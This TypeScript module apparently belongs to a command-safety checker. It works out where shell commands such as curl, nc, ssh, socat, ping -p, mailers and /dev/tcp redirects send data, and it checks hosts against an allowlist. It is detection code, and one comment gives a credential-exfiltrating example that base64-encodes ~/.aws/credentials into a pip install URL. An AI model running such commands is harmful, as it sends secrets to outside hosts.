// Where a network command sends data: the destinations of curl, wget, nc, ssh, scp, socat …
import { baseName, NPM_CLIENTS, PYTHON_INSTALLERS, SSH_VALUE_OPT, type SimpleCommand } from './words.js';
import { NETWORK_TOOLS } from '../catalog.js';
import { fileTransferOf, isTransferTool } from './file-transfers.js';
import { CLOUD_CLIS, cloudUploadOf } from './cloud-storage.js';
import { FORGE_CLIS, forgeUploadOf } from './forge-cli.js';
import { canonicalHost, METADATA_HOST } from './metadata-credentials.js';

export interface Egress {
  tool: string;
  host: string;
  port?: number;
  url?: string;
  /** The host as the command spelled it, when that hid an IPv4 address (`16843009`, `0x01010101`, `[::ffff:1.1.1.1]`); `host` is the address. */
  spelledAs?: string;
  /** The service shows what it receives to others (a gist, an issue, a release): a secret sent there is out even when the host is allowlisted. */
  publishes?: boolean;
}

const URL_RE = /^([a-z][a-z0-9+.-]*):\/\/(?:[^@/\s]*@)?(\[[^\]]+\]|[^:/?#\s]+)(?::(\d+))?/i;
const HOSTPORT_RE = /^(\[[^\]]+\]|[A-Za-z0-9.-]+)(?::(\d+))?$/;
// Options whose next word is a value, not a destination.
const VALUE_OPTS = new Set(['-d', '--data', '--data-binary', '--data-raw', '--data-urlencode', '-H', '--header', '-o', '-O', '--output',
  '-X', '--request', '-u', '--user', '-A', '--user-agent', '-e', '--referer', '-F', '--form', '-T', '--upload-file', '-m', '--max-time',
  '-w', '--write-out', '-b', '--cookie', '-c', '--cookie-jar', '-x', '--proxy', '-i', '-p', '-l', '-P', '-E', '-K', '--config']);

/** Where `argv` sends (`env` and `stdin` are the command's: a backup repository may be named there, an FTP script read there). */
export function egressOf(argv: string[], env?: readonly string[], stdin?: string): Egress[] {
  const prog = baseName(argv[0] ?? '');
  // A relay, a backup repository, an FTP server the command sends files to (file-transfers.ts), besides what the tool's own words name.
  const transfer = isTransferTool(argv) ? fileTransferOf(argv, env, stdin) : undefined;
  const out = toolEgress(prog, argv);
  if (transfer !== undefined && !out.some((e) => e.host === transfer.host)) out.push({ tool: prog, host: transfer.host });
  return out;
}

function toolEgress(prog: string, argv: string[]): Egress[] {
  if (CODE_RUNNERS.has(prog)) return urlsInCode(prog, argv.slice(1));
  if (CLOUD_CLIS.has(prog)) {
    const up = cloudUploadOf(argv);
    return up ? [{ tool: up.tool, host: up.host, url: up.dest }] : [];
  }
  if (FORGE_CLIS.has(prog)) {
    const up = forgeUploadOf(argv);
    return up ? [{ tool: up.tool, host: up.host, publishes: true }] : [];
  }
  if (prog === 'ping' || prog === 'ping6') return pingPattern(prog, argv.slice(1));
  if (MAILERS.has(prog)) return mailRecipients(prog, argv.slice(1));
  if (PACKAGE_MANAGERS.has(prog)) return urlArgs(prog, argv.slice(1));
  // A package installed from a URL fetches it. Only a URL with a command's output in it is egress, of that output
  // (`pip install "https://h/$(base64 -w0 ~/.aws/credentials)"`); a plain one is package-install-from-url's to
  // judge, not egress after every secret the session read.
  if (INSTALLERS.has(prog)) return urlArgs(prog, argv.slice(1)).filter((e) => EXPANSION.test(e.url!));
  if (!NETWORK_TOOLS.has(prog)) return [];
  const out = urlArgs(prog, argv.slice(1));
  if (out.length > 0) return out;
  const words = positional(argv.slice(1), prog);
  switch (prog) {
    case 'nc': case 'ncat': case 'netcat': case 'telnet': {
      if (argv.includes('-l') || argv.includes('--listen')) return [];
      const [host, port] = words;
      if (host !== undefined) out.push({ tool: prog, host, port: port && /^\d+$/.test(port) ? Number(port) : undefined });
      break;
    }
    case 'socat':
      // Every word: `-u`/`-U` (one direction) are flags here, not curl's `--user`.
      for (const w of argv.slice(1)) {
        const m = /^(?:TCP|TCP4|TCP6|UDP|UDP4|UDP6|OPENSSL|SSL)(?:-CONNECT)?:([^:,]+):(\d+)/i.exec(w);
        if (m) out.push({ tool: prog, host: m[1]!, port: Number(m[2]) });
      }
      break;
    case 'ssh': case 'autossh': case 'scp': case 'sftp': case 'rsync': {
      const login = prog === 'ssh' || prog === 'autossh' || prog === 'sftp';
      for (const w of words) {
        const m = /^(?:[^@\s]+@)?([A-Za-z0-9.-]+|\[[^\]]+\]):/.exec(w) ?? (login ? /^(?:[^@\s]+@)?([A-Za-z0-9.-]+)$/.exec(w) : null);
        if (m) { out.push({ tool: prog, host: unbracket(m[1]!) }); if (login) break; }
      }
      break;
    }
    case 'sshfs': {
      const m = words.map((w) => /^(?:[^@\s]+@)?([A-Za-z0-9.-]+|\[[^\]]+\]):/.exec(w)).find((x) => x);
      if (m) out.push({ tool: prog, host: unbracket(m[1]!) });
      break;
    }
    case 'finger':
      for (const w of words) { const m = /@([A-Za-z0-9.-]+)$/.exec(w); if (m) out.push({ tool: prog, host: m[1]!, port: 79 }); }
      break;
    case 'whois': {
      const h = argv.indexOf('-h'), p = argv.indexOf('-p');
      const port = p > 0 && /^\d+$/.test(argv[p + 1] ?? '') ? Number(argv[p + 1]) : 43;
      if (h > 0 && argv[h + 1]) out.push({ tool: prog, host: argv[h + 1]!, port });
      break;
    }
    case 'smbclient': case 'smbget': case 'rpcclient':
      for (const w of words) { const m = /^(?:\\\\|\/\/|smb:\/\/)([^\\/]+)/.exec(w); if (m) { out.push({ tool: prog, host: m[1]!, port: 445 }); break; } }
      break;
    case 'openssl': {
      const c = argv.indexOf('-connect');
      const m = c > 0 ? HOSTPORT_RE.exec(argv[c + 1] ?? '') : null;
      if (m) out.push({ tool: prog, host: unbracket(m[1]!), port: m[2] ? Number(m[2]) : 443 });
      break;
    }
    case 'ztcp': {
      const [host, port] = words;
      if (host !== undefined && /^\d+$/.test(port ?? '')) out.push({ tool: prog, host, port: Number(port) });
      break;
    }
    case 'curl': case 'wget': case 'http': case 'https': case 'xh': {
      // `curl example.com/path`: a bare host with no scheme, fetched over http.
      const first = words.find((w) => /^[A-Za-z0-9-]+(\.[A-Za-z0-9-]+)+(:\d+)?(\/|$)/.test(w));
      const m = first ? HOSTPORT_RE.exec(first.split('/')[0]!) : null;
      if (m) out.push({ tool: prog, host: unbracket(m[1]!), port: m[2] ? Number(m[2]) : 80, url: `http://${first}` });
      break;
    }
  }
  return out;
}

/** Everywhere one parsed command sends data: its network tool, a `/dev/tcp` redirect, its inline code's URLs and sockets. */
export function egressOfCommand(cmd: SimpleCommand): Egress[] {
  const out = egressOf(cmd.argv, cmd.env, cmd.heredoc);
  // `>/dev/tcp/h/p` sends, `$(</dev/tcp/h/p)` receives: both reach the host.
  for (const r of new Set([...cmd.writes, ...cmd.reads])) {
    const m = /^\/dev\/(tcp|udp)\/([^/]+)\/(\d+)$/.exec(r);
    if (m) out.push({ tool: `/dev/${m[1]}`, host: m[2]!, port: Number(m[3]) });
  }
  const tool = baseName(cmd.argv[0] ?? '');
  for (const d of cmd.interpreterCode?.destinations ?? []) out.push({ tool, ...d });
  return out.map(asAddress);
}

/**
 * An IPv4 address spelled as one number, in hex or octal, with fewer than four parts or as an IPv4-mapped IPv6
 * address (what the URL parser and inet_aton accept) is judged as the address it is, and the spelling kept.
 */
function asAddress(e: Egress): Egress {
  // A lone number below 16777216 would be 0.x.x.x, where nothing listens: a port or a count taken for a host, not an address.
  if (!/^\[?[0-9a-fx.:]+\]?$/i.test(e.host) || /^\d{1,3}(\.\d{1,3}){3}$/.test(e.host) || /^\d{1,7}$/.test(e.host)) return e;
  const address = canonicalHost(e.host);
  return /^\d{1,3}(\.\d{1,3}){3}$/.test(address) ? { ...e, host: address, spelledAs: e.host } : e;
}

// Mail clients: the message (stdin, `-a` attachments) goes to each recipient's mail domain.
export const MAILERS = new Set(['mail', 'mailx', 's-nail', 'bsd-mailx', 'mutt', 'neomutt', 'sendmail', 'msmtp', 'ssmtp', 'swaks']);
const MAIL_VALUE_OPTS = new Set(['-s', '-a', '-A', '-r', '-f', '-F', '-S', '-q', '-e', '-i', '-u', '--attach', '--body', '--header', '--server', '--from', '--h-From']);
const ADDRESS = /^(?:[^@\s<>]+)@([A-Za-z0-9.-]+\.[A-Za-z]{2,})>?$/;

/** Recipients (including -c/-b and swaks' --to): the host is the address's domain; `sendmail -t` names them inside the message. */
function mailRecipients(prog: string, args: string[]): Egress[] {
  const out: Egress[] = [];
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!;
    if (MAIL_VALUE_OPTS.has(a)) { i++; continue; }
    const m = ADDRESS.exec(a.replace(/^--to=|^</, ''));
    if (m && !out.some((e) => e.host === m[1]!.toLowerCase())) out.push({ tool: prog, host: m[1]!.toLowerCase(), port: 25 });
  }
  return out;
}

// ping's options that take a value; `-p` is the pattern it fills each packet with: data carried to the host (ICMP exfiltration, T1048.003).
const PING_VALUE_OPTS = new Set(['-c', '-i', '-s', '-t', '-W', '-w', '-p', '-I', '-l', '-Q', '-M', '-m', '-F', '-T']);

/** `ping -p <hex> host`: the pattern goes to the host in every packet; a ping without one carries nothing of ours. */
function pingPattern(prog: string, args: string[]): Egress[] {
  if (!args.some((a) => a === '-p' || /^-p./.test(a))) return [];
  let host: string | undefined;
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!;
    if (a.startsWith('-')) { if (PING_VALUE_OPTS.has(a)) i++; continue; }
    host = a;
  }
  return host === undefined ? [] : [{ tool: `${prog} -p`, host }];
}

// Package managers that install a package file from a URL (`yum install http://…/x.rpm`): the URL is a download.
const PACKAGE_MANAGERS = new Set(['yum', 'dnf', 'zypper', 'rpm']);
const INSTALLERS = new Set([...NPM_CLIENTS, ...PYTHON_INSTALLERS, 'gem', 'cargo', 'go', 'composer', 'brew', 'apt', 'apt-get']);
/** `$(…)` and backticks: a command's output put into the word (a `${VERSION}` is no data sent). */
const EXPANSION = /\$\(|`/;

/** Each argument that is a URL, as egress to its host (and port, or the scheme's). */
export function urlArgs(tool: string, args: readonly string[]): Egress[] {
  const out: Egress[] = [];
  for (const w of args) {
    const m = URL_RE.exec(w);
    if (m) out.push({ tool, host: unbracket(m[2]!), port: m[3] ? Number(m[3]) : defaultPort(m[1]!), url: w });
  }
  return out;
}

// Interpreters without an inline-code analyser (interpreter-code.ts covers python, node, perl, ruby, php):
// a URL or a socket peer written in their code is still where they connect.
const CODE_RUNNERS = new Set(['julia', 'jrunscript', 'jjs', 'lua', 'luajit', 'Rscript', 'tclsh', 'wish', 'groovy', 'scala', 'kotlin', 'guile', 'gawk']);
const CODE_URL_RE = /\b(?:https?|ftp):\/\/(\[[^\]]+\]|[^:/?#\s'"]+)(?::(\d+))?/gi;
const CODE_PEER_RE = /\bconnect\s*\(\s*["']([A-Za-z0-9.:-]+)["']\s*,\s*(\d+)/g;

function urlsInCode(tool: string, args: string[]): Egress[] {
  const out: Egress[] = [];
  for (const a of args) {
    for (const m of a.matchAll(CODE_URL_RE)) out.push({ tool, host: unbracket(m[1]!), port: m[2] ? Number(m[2]) : undefined, url: m[0] });
    for (const m of a.matchAll(CODE_PEER_RE)) out.push({ tool, host: m[1]!, port: Number(m[2]) });
  }
  return out;
}

const SSH_TOOLS = new Set(['ssh', 'autossh', 'scp', 'sftp', 'sshfs']);

function positional(args: string[], prog: string): string[] {
  const out: string[] = [];
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!;
    if (a.startsWith('-')) {
      // autossh's -M takes its monitor port (ssh's -M is a flag).
      if ((VALUE_OPTS.has(a) && !(prog === 'nc' && a === '-l')) || (SSH_TOOLS.has(prog) && SSH_VALUE_OPT.test(a)) || (prog === 'autossh' && a === '-M')) i++;
      continue;
    }
    out.push(a);
  }
  return out;
}

function unbracket(h: string): string {
  return h.startsWith('[') && h.endsWith(']') ? h.slice(1, -1) : h;
}

function defaultPort(scheme: string): number | undefined {
  return ({ http: 80, https: 443, ftp: 21, ssh: 22, ws: 80, wss: 443 } as Record<string, number>)[scheme.toLowerCase()];
}

/** Loopback and unspecified addresses never leave the machine; nor does a request to the cloud metadata service. */
export function isLocalHost(host: string): boolean {
  const h = canonicalHost(host);
  return METADATA_HOST.test(h) || h === 'localhost' || h.endsWith('.localhost') || /^127\.\d{1,3}\.\d{1,3}\.\d{1,3}$/.test(h) || h === '::1' || h === '0.0.0.0' || h === '::' || h === '0:0:0:0:0:0:0:1';
}

/** `host` is on the allowlist: exact match, or `*.example.com` for any subdomain. */
export function isAllowedHost(host: string, allow: readonly string[]): boolean {
  const h = host.toLowerCase();
  return allow.some((pattern) => {
    const a = pattern.toLowerCase();
    return a.startsWith('*.') ? h.endsWith(a.slice(1)) || h === a.slice(2) : h === a;
  });
}
